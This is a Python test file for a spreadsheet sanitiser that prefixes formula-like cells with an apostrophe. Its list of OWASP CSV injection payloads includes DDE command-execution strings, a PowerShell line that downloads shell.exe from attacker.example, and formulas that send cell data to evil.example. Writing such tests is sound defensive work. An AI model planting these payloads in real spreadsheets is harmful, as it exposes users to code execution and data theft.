"""safe_cell() against the OWASP CSV injection payloads, and every writer using it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cairn.lib.spreadsheets import is_formula_like, read_cell, safe_cell, safe_text

# From OWASP's "CSV Injection" page and its cheat sheet, with the variants that hide the
# formula behind whitespace or control characters.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click for more")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTDATA("http://evil.example/data")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    " @SUM(1+1)",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    " \t \r\n-3+3+cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width =
    "\tplain",
    "\rplain",
]

PLAIN = ["Plain text = fine", "Reduce repeat referrals by 10%", "", "O'Brien", "Q2 - on track"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_is_neutralised(payload):
    assert is_formula_like(payload)
    assert safe_cell(payload) == "'" + payload
    assert safe_text(payload) == "'" + payload
    assert read_cell(safe_cell(payload)) == payload


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_alone(text):
    assert safe_cell(text) == text
    assert read_cell(text) == text


@pytest.mark.parametrize("value", [None, 0, -5, 2.5, True])
def test_values_that_are_not_text_pass_unchanged(value):
    assert safe_cell(value) == value
    assert safe_text(value) == ("" if value is None else str(value))


def test_an_apostrophe_is_only_removed_where_safe_cell_added_it():
    assert read_cell("'quoted") == "'quoted"
    assert read_cell("'=1+1") == "=1+1"
    assert safe_cell("'=1+1") == "''=1+1"  # a note that starts with an apostrophe itself


@given(st.text(max_size=40))
@example("'=1+1")
@example("''@SUM(1)")
def test_nothing_safe_cell_writes_starts_a_formula_and_reading_it_back_is_exact(text):
    written = safe_text(text)
    assert not is_formula_like(written)
    assert read_cell(written) == text


def test_the_csv_writer_keeps_the_neutralised_payloads_through_quoting():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_text(p) for p in OWASP_PAYLOADS])
    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert row == ["'" + p for p in OWASP_PAYLOADS]
